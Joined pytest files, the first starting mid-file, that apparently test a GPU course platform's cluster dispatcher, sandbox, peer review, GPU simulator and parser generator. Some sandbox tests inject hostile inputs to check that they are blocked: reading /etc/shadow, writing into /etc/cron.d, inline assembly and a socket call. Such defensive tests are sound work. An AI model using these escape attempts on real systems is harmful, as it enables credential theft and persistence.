        assert caches.results.memo.inflight_count == 0  # flight abandoned

        clock.advance(11.0)
        broker.expire_leases(clock.now())
        clock.advance(1.0)
        result = d2.step()
        assert result is not None and result.all_correct
        assert caches.results.stats.dedup_hits == 0  # owner, not joiner
        assert len(caches.results) == 1              # result was memoized

    def test_dashboard_shows_delivery_gauges(self):
        clock = ManualClock()
        broker = MessageBroker(
            policy=DeliveryPolicy(visibility_timeout_s=10.0,
                                  backoff_base_s=0.5, max_attempts=2))
        db = Database("metrics")
        d1, _, _, _ = self.make_driver(clock, broker=broker, db=db)
        d2, _, _, _ = self.make_driver(clock, broker=broker, db=db)
        job = job_for(VECADD)
        broker.publish(job, clock.now())
        FaultInjector().crash_mid_job(d1.worker)
        d1.step()
        dashboard = Dashboard(db, broker)
        assert dashboard.snapshot()["delivery"]["in_flight"] == 1

        clock.advance(11.0)
        broker.expire_leases(clock.now())
        clock.advance(1.0)
        d2.step()
        snap = dashboard.snapshot()["delivery"]
        assert snap["in_flight"] == 0
        assert snap["redelivered"] == 1
        assert snap["expired_leases"] == 1
        assert snap["acked"] == 1
        assert "redelivered" in dashboard.render()

    def test_dashboard_renders_fleet(self):
        clock = ManualClock()
        driver, broker, db, _ = self.make_driver(clock)
        broker.publish(job_for(VECADD), clock.now())
        driver.step()
        driver.health_check()
        dashboard = Dashboard(db, broker)
        text = dashboard.render()
        assert "dashboard" in text
        assert driver.worker.name in text
        snap = dashboard.snapshot()
        assert snap["queue_depth"] == 0
        assert driver.worker.name in snap["last_heartbeat"]
