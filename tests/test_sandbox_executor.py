"""The composed sandbox pipeline."""

import pytest

from repro.sandbox import (
    ExecutionOutcome,
    SandboxConfig,
    SandboxExecutor,
    SeccompPolicy,
)
from repro.sandbox.sandbox import CompileFailure


def make_executor(**kwargs) -> SandboxExecutor:
    config = SandboxConfig(policy=SeccompPolicy.baseline(), **kwargs)
    return SandboxExecutor(config)


def ok_compile(source, limiter):
    limiter.charge(0.1)
    return {"compiled": source}


def ok_run(artifact, env):
    env.gate.invoke("write")
    env.run_limiter.charge(0.2)
    return 42


class TestPipeline:
    def test_happy_path(self):
        result = make_executor().execute("int x;", ok_compile, ok_run)
        assert result.outcome is ExecutionOutcome.OK
        assert result.value == 42
        assert result.compile_seconds == pytest.approx(0.1)
        assert result.run_seconds == pytest.approx(0.2)
        assert result.syscall_counts == {"write": 1}

    def test_blacklist_short_circuits(self):
        calls = []
        result = make_executor().execute(
            "asm();", lambda s, l: calls.append("compile"),
            lambda a, e: calls.append("run"))
        assert result.outcome is ExecutionOutcome.BLACKLISTED
        assert result.outcome.is_security_kill
        assert calls == []  # nothing past the scan

    def test_compile_error(self):
        def bad_compile(source, limiter):
            raise CompileFailure("error: expected ';'")

        result = make_executor().execute("int x", bad_compile, ok_run)
        assert result.outcome is ExecutionOutcome.COMPILE_ERROR
        assert "expected ';'" in result.stderr

    def test_compile_timeout(self):
        def slow_compile(source, limiter):
            limiter.charge(100.0)

        result = make_executor(compile_limit_s=1.0).execute(
            "int x;", slow_compile, ok_run)
        assert result.outcome is ExecutionOutcome.COMPILE_TIMEOUT

    def test_run_timeout(self):
        def slow_run(artifact, env):
            env.run_limiter.charge(100.0)

        result = make_executor(run_limit_s=1.0).execute(
            "int x;", ok_compile, slow_run)
        assert result.outcome is ExecutionOutcome.RUN_TIMEOUT

    def test_syscall_kill(self):
        def attack(artifact, env):
            env.gate.invoke("socket")

        result = make_executor().execute("int x;", ok_compile, attack)
        assert result.outcome is ExecutionOutcome.SYSCALL_KILLED
        assert result.outcome.is_security_kill
        assert result.syscall_counts == {"socket": 1}

    def test_write_outside_sandbox_killed(self):
        def escape(artifact, env):
            env.fs.write(env.privileges, "/etc/cron.d/evil", b"...")

        result = make_executor().execute("int x;", ok_compile, escape)
        assert result.outcome is ExecutionOutcome.WRITE_DENIED

    def test_sandbox_write_helper_allowed(self):
        def writes(artifact, env):
            env.write_file("out.txt", b"data")
            return "done"

        result = make_executor().execute("int x;", ok_compile, writes)
        assert result.ok

    def test_crash_is_runtime_error(self):
        def crash(artifact, env):
            raise ZeroDivisionError("divide by zero")

        result = make_executor().execute("int x;", ok_compile, crash)
        assert result.outcome is ExecutionOutcome.RUNTIME_ERROR
        assert "divide by zero" in result.stderr

    def test_tempdir_cleaned_after_job(self):
        executor = make_executor()

        roots = []

        def noting_run(artifact, env):
            env.write_file("a.out", b"x")
            roots.append(env.privileges.writable_root)
            return 0

        executor.execute("int x;", ok_compile, noting_run)
        assert not executor.fs.exists(f"{roots[0]}/a.out")

    def test_kill_accounting(self):
        executor = make_executor()
        executor.execute("asm();", ok_compile, ok_run)
        executor.execute("asm();", ok_compile, ok_run)
        executor.execute("int x;", ok_compile, ok_run)
        assert executor.jobs_run == 3
        assert executor.kills_by_outcome[ExecutionOutcome.BLACKLISTED] == 2
