"""Peer review (assignment, starvation) and instructor tools."""

import pytest

from repro.cluster.job import DatasetOutcome, JobResult, JobStatus
from repro.core import (
    AttemptStore,
    GradeBook,
    InstructorTools,
    PeerReviewEngine,
    RevisionStore,
    Role,
    SubmissionKind,
    UserStore,
)
from repro.db import Database


@pytest.fixture
def db():
    return Database()


class TestPeerReviewMechanism:
    def test_each_submitter_reviews_three_random_peers(self, db):
        engine = PeerReviewEngine(db, reviews_per_student=3, seed=1)
        submitters = list(range(1, 21))
        assignments = engine.assign("vector-add", submitters)
        assert len(assignments) == 20 * 3
        for reviewer in submitters:
            mine = engine.assignments_for("vector-add", reviewer)
            assert len(mine) == 3
            assert all(a.author_id != reviewer for a in mine)
            assert len({a.author_id for a in mine}) == 3

    def test_small_cohort_caps_assignments(self, db):
        engine = PeerReviewEngine(db, reviews_per_student=3)
        assignments = engine.assign("lab", [1, 2])
        assert len(assignments) == 2  # only one peer each

    def test_completion_credit(self, db):
        engine = PeerReviewEngine(db, reviews_per_student=3, seed=2)
        engine.assign("lab", [1, 2, 3, 4])
        mine = engine.assignments_for("lab", 1)
        engine.complete(mine[0].assignment_id, "nice tiling")
        assert engine.completion_credit("lab", 1) == pytest.approx(1 / 3)
        assert engine.completion_credit("lab", 99) == 0.0

    def test_grade_weight_default_matches_paper(self, db):
        assert PeerReviewEngine(db).grade_weight == 0.10


class TestPeerReviewStarvation:
    def test_dropout_starves_active_students(self, db):
        """Paper: 'The high drop rate ... caused low probability of an
        active student being assigned an active peer reviewer.'"""
        engine = PeerReviewEngine(db, reviews_per_student=3, seed=3)
        submitters = list(range(1, 101))
        engine.assign("lab", submitters)
        # only 20% stayed active to do their reviews
        active = set(range(1, 21))
        engine.simulate_completion("lab", active)
        report = engine.starvation("lab", active)
        # with 80% dropout, completions are rare, and actives go unreviewed
        assert report.reviews_completed < report.reviews_assigned * 0.3
        assert report.starvation_rate > 0.2

    def test_no_dropout_no_starvation(self, db):
        engine = PeerReviewEngine(db, reviews_per_student=3, seed=4)
        submitters = list(range(1, 31))
        engine.assign("lab", submitters)
        active = set(submitters)
        engine.simulate_completion("lab", active)
        report = engine.starvation("lab", active)
        assert report.starvation_rate < 0.05


def _graded_result():
    return JobResult(
        job_id=1, status=JobStatus.COMPLETED, worker_name="w", compile_ok=True,
        datasets=[DatasetOutcome(0, "ok", True, "Solution is correct.")],
        started_at=0.0, finished_at=1.0)


@pytest.fixture
def tools(db):
    users = UserStore(db)
    attempts = AttemptStore(db)
    revisions = RevisionStore(db)
    gradebook = GradeBook(db)
    return (InstructorTools(db, users, attempts, revisions, gradebook),
            users, attempts, revisions, gradebook)


class TestInstructorTools:
    def test_roster_lists_students_with_attempts(self, tools):
        it, users, attempts, revisions, gradebook = tools
        prof = users.register("p@x.com", "Prof", "pw", role=Role.INSTRUCTOR)
        stu = users.register("s@x.com", "Stu", "pw")
        revisions.save(stu.user_id, "vector-add", "code", now=0.0)
        attempts.record(stu.user_id, "vector-add", SubmissionKind.GRADE, 1,
                        0, 10.0, _graded_result())
        gradebook.override(stu.user_id, "vector-add", 90.0, "", now=11.0)
        roster = it.roster(prof, "vector-add")
        assert len(roster) == 1
        row = roster[0]
        assert row.email == "s@x.com"
        assert row.attempts == 1
        assert row.total_grade == 90.0
        assert row.last_submission_at == 10.0

    def test_roster_requires_staff(self, tools):
        it, users, *_ = tools
        stu = users.register("s@x.com", "Stu", "pw")
        with pytest.raises(PermissionError):
            it.roster(stu, "vector-add")

    def test_student_detail_drilldown(self, tools):
        it, users, attempts, revisions, gradebook = tools
        prof = users.register("p@x.com", "Prof", "pw", role=Role.ADMIN)
        stu = users.register("s@x.com", "Stu", "pw")
        revisions.save(stu.user_id, "lab", "v1", now=0.0)
        revisions.save(stu.user_id, "lab", "v2", now=1.0)
        attempts.record(stu.user_id, "lab", SubmissionKind.RUN, 1, 0, 2.0,
                        _graded_result())
        attempts.save_answer(stu.user_id, "lab", 0, "because", now=3.0)
        detail = it.student_detail(prof, stu.user_id, "lab")
        assert len(detail["revisions"]) == 2
        assert len(detail["attempts"]) == 1
        assert detail["answers"] == {0: "because"}

    def test_comments(self, tools):
        it, users, *_ = tools
        prof = users.register("p@x.com", "Prof", "pw", role=Role.INSTRUCTOR)
        it.comment(prof, user_id=5, lab="lab", text="off-by-one in the "
                   "boundary check", now=1.0)
        comments = it.comments_for(5, "lab")
        assert len(comments) == 1
        assert comments[0]["target"] == "code"
        with pytest.raises(ValueError):
            it.comment(prof, 5, "lab", "x", 2.0, target="grade")

    def test_override_through_tools(self, tools):
        it, users, _, _, gradebook = tools
        prof = users.register("p@x.com", "Prof", "pw", role=Role.INSTRUCTOR)
        it.override_grade(prof, 7, "lab", 42.0, "regrade request", now=1.0)
        assert gradebook.get(7, "lab").total_points == 42.0
