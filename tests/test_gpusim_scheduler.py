"""SIMT execution: lockstep barriers, divergence, profiling counters."""

import numpy as np
import pytest

from repro.gpusim import (
    BarrierDivergenceError,
    Device,
    GpuRuntime,
    LaunchConfigError,
    SYNC,
)


@pytest.fixture
def rt():
    return GpuRuntime(Device())


class TestFunctionalExecution:
    def test_plain_function_kernel(self, rt):
        out = rt.malloc(64, "int")

        def kernel(ctx, out):
            ctx.store(out.ptr(), ctx.global_x, ctx.global_x * 2)

        rt.launch(kernel, (2,), (32,), out)
        assert list(rt.memcpy_dtoh(out)) == [2 * i for i in range(64)]

    def test_2d_indexing(self, rt):
        out = rt.malloc(16, "int")

        def kernel(ctx, out):
            idx = ctx.global_y * 4 + ctx.global_x
            ctx.store(out.ptr(), idx, ctx.threadIdx.y * 10 + ctx.threadIdx.x)

        rt.launch(kernel, (2, 2), (2, 2), out)
        data = rt.memcpy_dtoh(out).reshape(4, 4)
        assert data[0, 0] == 0 and data[1, 1] == 11
        assert data[3, 3] == 11  # second block, same thread pattern

    def test_barrier_separates_phases(self, rt):
        n = 64
        out = rt.malloc(n, "float")
        src = rt.malloc_like(np.arange(n, dtype=np.float32))

        def reverse_via_shared(ctx, src, out, n):
            s = ctx.shared("buf", 64, "float")
            t = ctx.threadIdx.x
            ctx.shared_store(s, t, ctx.load(src.ptr(), t))
            yield SYNC
            ctx.store(out.ptr(), t, ctx.shared_load(s, n - 1 - t))

        rt.launch(reverse_via_shared, (1,), (64,), src, out, n)
        assert list(rt.memcpy_dtoh(out)) == list(range(63, -1, -1))

    def test_barrier_divergence_detected(self, rt):
        def bad(ctx):
            if ctx.threadIdx.x < 16:
                yield SYNC

        with pytest.raises(BarrierDivergenceError):
            rt.launch(bad, (1,), (32,))

    def test_unequal_barrier_counts_detected(self, rt):
        def bad(ctx):
            for _ in range(ctx.threadIdx.x % 2 + 1):
                yield SYNC

        with pytest.raises(BarrierDivergenceError):
            rt.launch(bad, (1,), (4,))

    def test_shared_memory_per_block_isolated(self, rt):
        out = rt.malloc(2, "float")

        def kernel(ctx, out):
            s = ctx.shared("acc", 1, "float")
            ctx.shared_store(s, 0, ctx.shared_load(s, 0) + 1.0)
            yield SYNC
            if ctx.threadIdx.x == 0:
                ctx.store(out.ptr(), ctx.blockIdx.x, ctx.shared_load(s, 0))

        rt.launch(kernel, (2,), (8,), out)
        # each block counted only its own 8 threads
        assert list(rt.memcpy_dtoh(out)) == [8.0, 8.0]

    def test_shared_memory_limit_enforced(self, rt):
        def hog(ctx):
            ctx.shared("big", 100_000, "float")

        with pytest.raises(LaunchConfigError):
            rt.launch(hog, (1,), (1,))

    def test_atomics_correct_under_full_grid(self, rt):
        counter = rt.malloc(1, "int")

        def kernel(ctx, counter):
            ctx.atomic_add(counter.ptr(), 0, 1)

        rt.launch(kernel, (4,), (64,), counter)
        assert rt.memcpy_dtoh(counter)[0] == 256

    def test_atomic_cas_and_exch(self, rt):
        cell = rt.malloc(1, "int")

        def kernel(ctx, cell):
            old = ctx.atomic_cas(cell.ptr(), 0, 0, ctx.global_x + 1)
            if old != 0:
                ctx.atomic_exch(cell.ptr(), 0, 99)

        rt.launch(kernel, (1,), (2,), cell)
        assert rt.memcpy_dtoh(cell)[0] == 99

    def test_printf_collected_via_hook(self, rt):
        lines = []
        rt.io_hook = lines.append

        def kernel(ctx):
            if ctx.global_x == 0:
                ctx.printf("hello from the device")

        rt.launch(kernel, (1,), (4,))
        assert lines == ["hello from the device"]


class TestProfilingCounters:
    def test_coalesced_loads_one_transaction_per_warp(self, rt):
        src = rt.malloc(128, "float")

        def kernel(ctx, src):
            ctx.load(src.ptr(), ctx.global_x)

        stats = rt.launch(kernel, (1,), (128,), src)
        # 4 warps x 32 floats = 128B each = 1 transaction per warp
        assert stats.global_load_requests == 4
        assert stats.global_load_transactions == 4
        assert stats.load_efficiency == pytest.approx(1.0)

    def test_strided_loads_waste_transactions(self, rt):
        src = rt.malloc(32 * 32, "float")

        def kernel(ctx, src):
            ctx.load(src.ptr(), ctx.global_x * 32)

        stats = rt.launch(kernel, (1,), (32,), src)
        assert stats.global_load_transactions == 32
        assert stats.load_efficiency < 0.05

    def test_broadcast_shared_read_no_conflict(self, rt):
        def kernel(ctx):
            s = ctx.shared("b", 32, "float")
            ctx.shared_load(s, 0)  # all threads read the same word

        stats = rt.launch(kernel, (1,), (32,))
        assert stats.bank_conflicts == 0

    def test_same_bank_distinct_words_conflict(self, rt):
        def kernel(ctx):
            s = ctx.shared("b", 32 * 32, "float")
            ctx.shared_load(s, ctx.threadIdx.x * 32)  # all hit bank 0

        stats = rt.launch(kernel, (1,), (32,))
        assert stats.bank_conflicts == 31

    def test_barrier_and_warp_counters(self, rt):
        def kernel(ctx):
            yield SYNC
            yield SYNC

        stats = rt.launch(kernel, (3,), (64,))
        assert stats.barriers == 6       # 2 per block x 3 blocks
        assert stats.warps == 6          # 2 warps per block
        assert stats.blocks == 3
        assert stats.threads == 192

    def test_atomic_contention_tracked(self, rt):
        hot = rt.malloc(1, "int")
        spread = rt.malloc(64, "int")

        def contended(ctx, hot):
            ctx.atomic_add(hot.ptr(), 0, 1)

        def privatized(ctx, spread):
            ctx.atomic_add(spread.ptr(), ctx.global_x, 1)

        s1 = rt.launch(contended, (1,), (64,), hot)
        s2 = rt.launch(privatized, (1,), (64,), spread)
        assert s1.max_atomic_contention == 64
        assert s2.max_atomic_contention == 1
        # contention makes the timing model slower
        assert s1.elapsed_seconds > s2.elapsed_seconds

    def test_global_atomics_counted_in_memory_traffic(self, rt):
        """A global atomic is a read-modify-write: it must show up in
        the coalescing trace (requests, transactions, bytes), not only
        in the atomic counters."""
        counters = rt.malloc(32, "int")

        def kernel(ctx, counters):
            ctx.atomic_add(counters.ptr(), ctx.global_x, 1)

        stats = rt.launch(kernel, (1,), (32,), counters)
        assert stats.atomic_ops == 32
        # one coalesced warp access for the read half + one for the write
        assert stats.global_load_requests == 1
        assert stats.global_store_requests == 1
        assert stats.global_load_transactions >= 1
        assert stats.bytes_read == 32 * 4
        assert stats.bytes_written == 32 * 4

    def test_shared_atomics_not_in_global_traffic(self, rt):
        def kernel(ctx):
            s = ctx.shared("bins", 32, "int")
            ctx.atomic_add(s, ctx.threadIdx.x, 1)

        stats = rt.launch(kernel, (1,), (32,))
        assert stats.atomic_ops == 32
        assert stats.global_load_requests == 0
        assert stats.bytes_read == 0


class TestHostApi:
    def test_memcpy_roundtrip(self, rt):
        data = np.arange(100, dtype=np.float32)
        buf = rt.malloc_like(data)
        assert np.array_equal(rt.memcpy_dtoh(buf), data)

    def test_memcpy_overflow_checked(self, rt):
        buf = rt.malloc(4, "float")
        with pytest.raises(Exception):
            rt.memcpy_htod(buf, np.zeros(10, dtype=np.float32))

    def test_events_measure_elapsed_device_time(self, rt):
        src = rt.malloc(1024, "float")
        start = rt.record_event()

        def kernel(ctx, src):
            ctx.load(src.ptr(), ctx.global_x)

        rt.launch(kernel, (8,), (128,), src)
        stop = rt.record_event()
        assert stop.elapsed_since(start) > 0

    def test_launch_history_kept(self, rt):
        def kernel(ctx):
            ctx.count_instr()

        rt.launch(kernel, (1,), (1,))
        rt.launch(kernel, (1,), (1,))
        assert len(rt.launch_history) == 2
        assert rt.device.kernels_launched == 2
