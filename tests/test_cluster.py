"""Cluster (v1): worker evaluation, push dispatch, health, scaling."""

import pytest

from repro.cluster import (
    DeadlineAwareScaler,
    DispatchError,
    FaultInjector,
    GpuWorker,
    HealthMonitor,
    Job,
    JobStatus,
    ManualClock,
    PushDispatcher,
    ReactiveAutoscaler,
    StaticProvisioner,
    WorkerConfig,
    WorkerPool,
)
from repro.cluster.job import JobKind
from repro.labs import get_lab


@pytest.fixture
def clock():
    return ManualClock()


@pytest.fixture
def pool(clock):
    p = WorkerPool()
    for i in range(2):
        p.register(GpuWorker(WorkerConfig(), clock=clock, name=f"w{i}"))
    return p


@pytest.fixture
def dispatcher(pool):
    return PushDispatcher(pool)


VECADD = get_lab("vector-add")


def make_job(source=None, kind=JobKind.RUN_DATASET, lab=VECADD, **kw):
    return Job(lab=lab, source=source or lab.solution, kind=kind, **kw)


class TestWorkerEvaluation:
    def test_correct_solution(self, dispatcher):
        result = dispatcher.dispatch(make_job())
        assert result.status is JobStatus.COMPLETED
        assert result.compile_ok and result.all_correct
        assert result.service_seconds > 0

    def test_compile_error_reported_with_position(self, dispatcher):
        bad = VECADD.solution.replace("int i =", "int i")
        result = dispatcher.dispatch(make_job(bad))
        assert result.compile_ok is False
        assert result.datasets == []  # nothing ran
        assert ":" in result.compile_message

    def test_wrong_answer_has_mismatch_report(self, dispatcher):
        wrong = VECADD.solution.replace("in1[i] + in2[i]", "in1[i]")
        result = dispatcher.dispatch(make_job(wrong))
        assert result.compile_ok
        assert not result.all_correct
        assert "did not match the expected" in result.datasets[0].report

    def test_blacklisted_code_rejected(self, dispatcher):
        evil = VECADD.solution.replace("out[i] = in1[i] + in2[i];",
                                       'asm("cli");')
        result = dispatcher.dispatch(make_job(evil))
        assert not result.compile_ok
        assert "blacklisted" in result.compile_message

    def test_syscall_attack_killed(self, dispatcher):
        sneaky = VECADD.solution.replace(
            "cudaDeviceSynchronize();",
            'cudaDeviceSynchronize(); fopen("/etc/shadow", "r");')
        result = dispatcher.dispatch(make_job(sneaky))
        assert result.compile_ok
        assert result.datasets[0].outcome == "syscall_killed"

    def test_infinite_loop_times_out(self, dispatcher):
        import dataclasses
        fast_lab = dataclasses.replace(VECADD, run_limit_s=0.2)
        hang = VECADD.solution.replace(
            "wbLog(TRACE, \"The input length is \", inputLength);",
            "while (1) { inputLength = inputLength; }")
        result = dispatcher.dispatch(make_job(hang, lab=fast_lab))
        assert result.datasets[0].outcome == "run_timeout"

    def test_compile_only_job(self, dispatcher):
        result = dispatcher.dispatch(make_job(kind=JobKind.COMPILE_ONLY))
        assert result.compile_ok and result.datasets == []

    def test_full_grading_runs_all_datasets(self, dispatcher):
        result = dispatcher.dispatch(make_job(kind=JobKind.FULL_GRADING))
        assert len(result.datasets) == len(VECADD.dataset_sizes)
        assert result.all_correct

    def test_outcome_accounting(self, pool, dispatcher):
        dispatcher.dispatch(make_job())
        worker_counts = [w.outcome_counts for w in pool.workers]
        assert any(c.get("ok") for c in worker_counts)


class TestDispatchAndCapabilities:
    def test_tag_requirements_respected(self, clock):
        pool = WorkerPool()
        plain = GpuWorker(WorkerConfig(tags=frozenset({"cuda"})),
                          clock=clock, name="plain")
        mpi = GpuWorker(WorkerConfig(tags=frozenset({"cuda", "mpi"}),
                                     num_gpus=4), clock=clock, name="mpi")
        pool.register(plain)
        pool.register(mpi)
        dispatcher = PushDispatcher(pool)
        mpi_lab = get_lab("mpi-stencil")
        result = dispatcher.dispatch(
            Job(lab=mpi_lab, source=mpi_lab.solution))
        assert result.worker_name == "mpi"

    def test_no_eligible_worker_raises(self, clock):
        pool = WorkerPool()
        pool.register(GpuWorker(WorkerConfig(tags=frozenset({"cuda"})),
                                clock=clock))
        dispatcher = PushDispatcher(pool)
        mpi_lab = get_lab("mpi-stencil")
        with pytest.raises(DispatchError):
            dispatcher.dispatch(Job(lab=mpi_lab, source=mpi_lab.solution))

    def test_multi_gpu_requires_multiple_gpus(self, clock):
        worker = GpuWorker(WorkerConfig(tags=frozenset({"cuda", "mpi"}),
                                        num_gpus=1), clock=clock)
        mpi_lab = get_lab("mpi-stencil")
        assert not worker.can_run(Job(lab=mpi_lab, source=""))

    def test_dead_worker_evicted_and_job_retried(self, clock, pool):
        dispatcher = PushDispatcher(pool)
        pool.workers[0].crash()
        # push may pick the dead worker first; it must recover
        for _ in range(3):
            result = dispatcher.dispatch(make_job())
            assert result.status is JobStatus.COMPLETED
        assert pool.size >= 1

    def test_load_balancing_spreads_jobs(self, dispatcher, pool):
        for _ in range(6):
            dispatcher.dispatch(make_job(kind=JobKind.COMPILE_ONLY))
        counts = dispatcher.per_worker
        assert len(counts) == 2
        assert max(counts.values()) - min(counts.values()) <= 2


class TestHealthEviction:
    def test_healthy_workers_not_evicted(self, clock, pool):
        monitor = HealthMonitor(clock, timeout_s=30)
        monitor.poll_workers(pool.workers)
        clock.advance(10)
        monitor.poll_workers(pool.workers)
        assert monitor.evict_overdue(pool) == []
        assert pool.size == 2

    def test_silent_worker_evicted(self, clock, pool):
        monitor = HealthMonitor(clock, timeout_s=30)
        monitor.poll_workers(pool.workers)
        injector = FaultInjector()
        injector.silence(pool.workers[0])
        clock.advance(31)
        monitor.poll_workers(pool.workers)
        evicted = monitor.evict_overdue(pool)
        assert len(evicted) == 1
        assert pool.size == 1
        assert monitor.evictions

    def test_healed_worker_can_reregister(self, clock, pool):
        monitor = HealthMonitor(clock, timeout_s=30)
        injector = FaultInjector()
        victim = pool.workers[0]
        injector.silence(victim)
        monitor.poll_workers(pool.workers)
        clock.advance(31)
        monitor.poll_workers(pool.workers)
        monitor.evict_overdue(pool)
        injector.heal(victim)
        pool.register(victim)
        assert pool.size == 2

    def test_crashed_worker_sends_no_heartbeat(self, clock):
        worker = GpuWorker(WorkerConfig(), clock=clock)
        worker.crash()
        assert worker.heartbeat() is None

    def test_failed_eviction_keeps_heartbeat_record(self, clock, pool):
        """A worker the pool does not know must not be counted as
        evicted, and its heartbeat record must survive."""
        monitor = HealthMonitor(clock, timeout_s=30)
        monitor.record("ghost", clock.now())   # never registered
        clock.advance(31)
        assert monitor.evict_overdue(pool) == []
        assert monitor.evictions == []
        assert "ghost" in monitor.last_seen

    def test_eviction_routed_through_custom_callback(self, clock, pool):
        monitor = HealthMonitor(clock, timeout_s=30)
        monitor.poll_workers(pool.workers)
        FaultInjector().silence(pool.workers[0])
        clock.advance(31)
        monitor.poll_workers(pool.workers)
        seen = []

        def remove(name):
            seen.append(name)
            return pool.evict(name)

        evicted = monitor.evict_overdue(pool, evict=remove)
        assert evicted == seen and len(evicted) == 1
        assert evicted[0] not in monitor.last_seen

    def test_forget_drops_heartbeat_record(self, clock, pool):
        monitor = HealthMonitor(clock, timeout_s=30)
        monitor.poll_workers(pool.workers)
        name = pool.workers[0].name
        monitor.forget(name)
        clock.advance(31)
        assert name not in monitor.overdue()


class TestMidJobFaults:
    def test_crash_mid_job_fires_between_poll_and_completion(self, clock):
        worker = GpuWorker(WorkerConfig(), clock=clock)
        FaultInjector().crash_mid_job(worker)
        result = worker.process(make_job())
        assert result.status is JobStatus.FAILED
        assert not worker.alive
        assert not worker.crash_mid_job    # one-shot

    def test_push_path_survives_crash_mid_job(self, clock, pool):
        """v1 push dispatch already retries on another candidate when a
        worker dies holding the job."""
        dispatcher = PushDispatcher(pool)
        FaultInjector().crash_mid_job(pool.workers[0])
        for _ in range(3):
            result = dispatcher.dispatch(make_job())
            assert result.status is JobStatus.COMPLETED
        assert dispatcher.retries >= 1

    def test_heal_clears_armed_faults(self, clock):
        worker = GpuWorker(WorkerConfig(), clock=clock)
        injector = FaultInjector()
        injector.crash_mid_job(worker)
        injector.wedge_mid_job(worker)
        worker.wedged = True
        injector.heal(worker)
        assert worker.alive
        assert not worker.crash_mid_job
        assert not worker.wedge_mid_job
        assert not worker.wedged
        result = worker.process(make_job())
        assert result.status is JobStatus.COMPLETED


class TestScalingPolicies:
    def test_static(self):
        policy = StaticProvisioner(16)
        assert policy.target_workers(0.0, 99.0, 1).target == 16

    def test_reactive_scales_with_demand(self):
        policy = ReactiveAutoscaler(target_utilization=0.5, min_workers=1,
                                    max_workers=32, cooldown_s=0)
        assert policy.target_workers(0.0, 8.0, 1).target == 16
        assert policy.target_workers(1.0, 0.5, 16).target == 1

    def test_reactive_respects_bounds(self):
        policy = ReactiveAutoscaler(min_workers=2, max_workers=4,
                                    cooldown_s=0)
        assert policy.target_workers(0.0, 100.0, 1).target == 4
        assert policy.target_workers(1.0, 0.0, 4).target == 2

    def test_cooldown_holds_target(self):
        policy = ReactiveAutoscaler(cooldown_s=600, min_workers=1,
                                    max_workers=32)
        first = policy.target_workers(0.0, 10.0, 1)
        held = policy.target_workers(100.0, 0.1, first.target)
        assert held.target == first.target
        assert held.reason == "hold"

    def test_deadline_boost(self):
        base = ReactiveAutoscaler(min_workers=1, max_workers=32,
                                  cooldown_s=0)
        policy = DeadlineAwareScaler(base=base, deadlines=(100_000.0,),
                                     boost_window_s=86_400.0,
                                     boost_workers=8)
        # inside the boost window, low demand still gets 8 workers
        decision = policy.target_workers(50_000.0, 0.5, 1)
        assert decision.target == 8
        assert "deadline" in decision.reason
        # outside the window, base policy rules
        assert policy.target_workers(200_000.0, 0.5, 8).target < 8
