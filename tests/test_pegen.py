"""Unit tests for the pegen-style parser generator pipeline."""

from __future__ import annotations

from pathlib import Path

import pytest

from repro.minicuda.lexer import TokenKind, tokenize
from repro.minicuda.parser_gen import MiniCudaParser
from repro.minicuda.pegen import (
    FAIL,
    GrammarError,
    ParserBase,
    generate_parser_source,
    memoize,
    memoize_left_rec,
    parse_grammar,
)

PKG_DIR = Path(__file__).parent.parent / "src" / "repro" / "minicuda"


def _build(grammar_text: str):
    """Generate, exec, and return the parser class for a grammar."""
    source = generate_parser_source(grammar_text)
    namespace: dict = {}
    exec(compile(source, "<generated>", "exec"), namespace)
    return namespace[parse_grammar(grammar_text).class_name]


class TestMetaparser:
    def test_parses_the_real_grammar(self):
        grammar = parse_grammar((PKG_DIR / "minicuda.gram").read_text())
        assert grammar.class_name == "MiniCudaParser"
        assert grammar.start == "start"
        assert "statement" in grammar.rules
        assert len(grammar.rules) > 50

    def test_memo_flag(self):
        grammar = parse_grammar((PKG_DIR / "minicuda.gram").read_text())
        assert grammar.rules["primary"].memo
        assert not grammar.rules["statement"].memo

    def test_undefined_rule_reference_rejected(self):
        with pytest.raises(GrammarError):
            parse_grammar("@start start\nstart: nonesuch EOF\n")

    def test_duplicate_rule_rejected(self):
        with pytest.raises(GrammarError):
            parse_grammar("@start a\na: INT\na: IDENT\n")


class TestLeftRecursion:
    def test_real_grammar_postfix_is_the_only_leader(self):
        grammar = parse_grammar((PKG_DIR / "minicuda.gram").read_text())
        leaders = [r.name for r in grammar.rules.values() if r.leader]
        assert leaders == ["postfix"]
        assert grammar.rules["postfix"].left_recursive
        assert not grammar.rules["statement"].left_recursive

    def test_indirect_cycle_detected(self):
        grammar = parse_grammar(
            "@start a\n"
            "a: b '+' INT | INT\n"
            "b: a\n")
        assert grammar.rules["a"].left_recursive
        assert grammar.rules["b"].left_recursive
        # first rule of the cycle in grammar order gets the seed-grower
        assert grammar.rules["a"].leader
        assert not grammar.rules["b"].leader

    def test_nullable_prefix_extends_initial_names(self):
        # c is nullable, so "a: c a ..." is still left-recursive on a
        grammar = parse_grammar(
            "@start a\n"
            "a: c a '+' INT | INT\n"
            "c: ';'?\n")
        assert grammar.rules["a"].left_recursive
        assert grammar.rules["c"].nullable


class TestGeneratedParsers:
    def test_tiny_calculator_round_trip(self):
        parser_cls = _build(
            "@class TinyParser\n"
            "@start start\n"
            "start: e=expr EOF { e }\n"
            "expr: f=term rest=(op='+' r=term)* "
            "{ ('sum', f, [r for _, r in rest]) if rest else f }\n"
            "term:\n"
            "    | t=INT { t.value }\n"
            "    | '(' e=expr &&')' { e }\n")
        parser = parser_cls(tokenize("1 + (2 + 3) + 4"))
        assert parser.parse_translation_unit() == \
            ("sum", 1, [("sum", 2, [3]), 4])

    def test_left_recursive_rule_associates_left(self):
        parser_cls = _build(
            "@class LeftParser\n"
            "@start start\n"
            "start: e=x EOF { e }\n"
            "x:\n"
            "    | a=x '-' b=INT { (a, b.value) }\n"
            "    | b=INT { b.value }\n")
        parser = parser_cls(tokenize("1 - 2 - 3"))
        assert parser.parse_translation_unit() == ((1, 2), 3)

    def test_generated_source_records_grammar_hash(self):
        source = generate_parser_source("@start a\na: INT EOF\n")
        assert "GRAMMAR_HASH" in source


class TestPackratMemo:
    def test_memo_decorator_caches_by_position(self):
        calls = []

        class P(ParserBase):
            START_RULE = "num"

            @memoize
            def num(self):
                calls.append(self._i)
                t = self.match_kind(TokenKind.INT)
                return t.value if t is not FAIL else FAIL

        parser = P(tokenize("7"))
        assert parser.num() == 7
        parser._i = 0
        assert parser.num() == 7
